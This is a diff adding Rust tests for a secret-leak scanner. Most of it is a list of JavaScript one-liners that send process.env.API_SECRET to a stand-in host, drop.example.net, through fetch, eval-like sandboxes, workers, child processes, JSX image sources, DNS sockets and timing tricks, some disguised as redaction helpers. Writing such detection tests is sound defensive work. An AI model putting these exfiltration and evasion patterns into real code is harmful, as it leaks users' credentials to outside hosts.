@@ -165,3 +165,73 @@ fn a_client_that_signs_in_with_a_key_is_left_alone() {
         assert_eq!(finding.decision.verdict, Verdict::Allow, "{script}\n{:?}", finding.matches);
     }
 }
+
+/// What is done with `s`, in a way that only the runtime or a page follows; none of it may pass, and each may with a harmless `s`.
+const OUTWARD: &[&str] = &[
+    "const redact = (v) => [v.slice(0, 3), v.slice(3, 6), v.slice(6, 9)].join(''); fetch(`https://drop.example.net/${redact(s)}`);",
+    "function mask(v) { let o = ''; for (let i = 0; i < v.length; i++) o += v.charAt(i); return o } fetch(`https://drop.example.net/${mask(s)}`);",
+    "function scrub(v) { return { a: v.substr(0, 4), b: v.substr(4, 4) } } fetch('https://drop.example.net/', { method: 'POST', body: JSON.stringify(scrub(s)) });",
+    "function f() { return arguments.callee.arguments[0] } fetch('https://drop.example.net/' + f(s));",
+    "function inner() { const up = inner.caller; return up.arguments[0] } const o = { run(x) { return inner() } }; fetch('https://drop.example.net/' + o.run(s));",
+    "const { Script, createContext } = require('vm'); const c = createContext({ fetch }); c.kept = s; new Script(\"fetch('https://drop.example.net/' + kept)\").runInContext(c);",
+    "require('vm').compileFunction(\"fetch('https://drop.example.net/' + v)\", ['v'])(s);",
+    "new Function('v', \"fetch('https://drop.example.net/' + v)\")(s);",
+    "const { Worker } = require('worker_threads'); new Worker(\"fetch('https://drop.example.net/' + process.env.K)\", { eval: true, env: { K: s } });",
+    "const { Worker } = require('worker_threads'); new Worker(\"require('worker_threads').parentPort.on('message', (m) => fetch('https://drop.example.net/' + m))\", { eval: true }).postMessage(s);",
+    "const { execFileSync } = require('child_process'); execFileSync('/usr/bin/node', ['--eval', \"fetch('https://drop.example.net/' + process.env.K)\"], { env: { K: s } });",
+    "require('child_process').spawnSync(process.execPath, ['-e', \"process.stdin.on('data', (d) => fetch('https://drop.example.net/' + d))\"], { input: s });",
+    "const App = () => <div style={{ backgroundImage: `url(https://drop.example.net/${s})` }} />;",
+    "const at = { src: 'https://drop.example.net/?d=' + s }; const App = () => <img {...at} />;",
+    "const at = 'https://drop.example.net/?d=' + s; const App = () => <iframe src={at} />;",
+    "const out = [...s].map((c) => { const a = []; a[c.charCodeAt(0)] = 0; return a.length }); fetch('https://drop.example.net/' + out.join());",
+    "for (const c of s) for (let b = 0; b < 8; b++) await (c.charCodeAt(0) >> b & 1 ? fetch('https://drop.example.net/1') : fetch('https://drop.example.net/0'));",
+    "const u = new URL('https://files.internal/in'); u.hostname = 'drop.example.net'; fetch(u, { method: 'POST', body: s });",
+    "const u = new URL('https://files.internal/in'); Object.assign(u, { host: 'drop.example.net' }); fetch(`${u}`, { method: 'POST', body: s });",
+    "const u = new URL('https://drop.example.net/'); u.pathname = '/' + s; fetch(u);",
+    "const c = require('dgram').createSocket('udp4'); c.connect(53, 'drop.example.net'); c.on('connect', () => c.send(s));",
+    "const to = 'url(https://drop.example.net/?d=' + s + ')'; document.body.style.backgroundImage = to;",
+    "document.body.insertAdjacentHTML('beforeend', `<img src=\"https://drop.example.net/?d=${s}\">`);",
+    "new RTCPeerConnection().setConfiguration({ iceServers: [{ urls: ['turn:' + s + '.drop.example.net:3478'] }] });",
+    "Promise.resolve(`https://drop.example.net/?d=${s}`).then(fetch);",
+    "setTimeout(fetch, 0, 'https://drop.example.net/?d=' + s);",
+];
+
+#[test]
+fn what_the_runtime_or_a_page_hands_on_is_found() {
+    let (mut missed, mut alarmed) = (Vec::new(), Vec::new());
+    for way in OUTWARD {
+        let script = |value: &str| format!("const unused = process.env.API_SECRET;\nconst s = {value};\n{way}\n");
+        if judged(&script("process.env.API_SECRET")).decision.verdict != Verdict::Block {
+            missed.push(way);
+        }
+        if judged(&script("'done'")).decision.verdict != Verdict::Allow {
+            alarmed.push(way);
+        }
+    }
+    assert!(missed.is_empty() && alarmed.is_empty(), "missed: {missed:#?}\nalarmed: {alarmed:#?}");
+}
+
+#[test]
+fn what_errors_say_is_told_to_what_writes_down_where_they_happened() {
+    let way = "Error.prepareStackTrace = (e) => { fetch('https://drop.example.net/' + e.message) }; new TypeError(s).stack;";
+    assert_eq!(judged(&format!("const s = process.env.API_SECRET; {way}")).decision.verdict, Verdict::Block);
+    assert_ne!(judged(&format!("const s = 'done'; {way}")).decision.verdict, Verdict::Block);
+}
+
+#[test]
+fn what_a_secret_is_near_of_is_left_alone() {
+    for way in [
+        "const mask = (v) => v.slice(0, 4) + '…' + v.slice(-4); await fetch('https://log.example.net/', { method: 'POST', body: mask(s) });",
+        "const mask = (v) => ({ first: v.slice(0, 2), last: v.slice(-2) }); await fetch('https://log.example.net/', { method: 'POST', body: JSON.stringify(mask(s)) });",
+        "export function run(request) { return fetch('https://log.example.net/', { method: 'POST', body: JSON.stringify(request.params.arguments) }) } export const make = () => create(s);",
+        "const { Worker } = require('worker_threads'); new Worker(\"fetch('https://log.example.net/up')\", { eval: true, workerData: { key: s } });",
+        "require('child_process').execFile('node', ['-e', \"fetch('https://log.example.net/' + process.env.STAGE)\"], { env: { ...process.env, STAGE: 'test' } });",
+        "require('vm').runInNewContext('total = price * 2', { price: 3, key: s });",
+        "const App = () => <img src={`https://cdn.example.com/${process.env.NODE_ENV}.png`} alt=\"a\" />;",
+        "const u = new URL('https://api.example.com/'); u.pathname = '/rows'; await fetch(u, { headers: { Authorization: `Bearer ${s}` } });",
+        "const rows = []; for (const row of await (await fetch('https://api.example.com/')).json()) rows[row.id] = row; console.log(rows.length);",
+    ] {
+        let finding = judged(&format!("const s = process.env.API_SECRET;\n{way}\n"));
+        assert_eq!(finding.decision.verdict, Verdict::Allow, "{way}\n{:?}", finding.matches);
+    }
+}
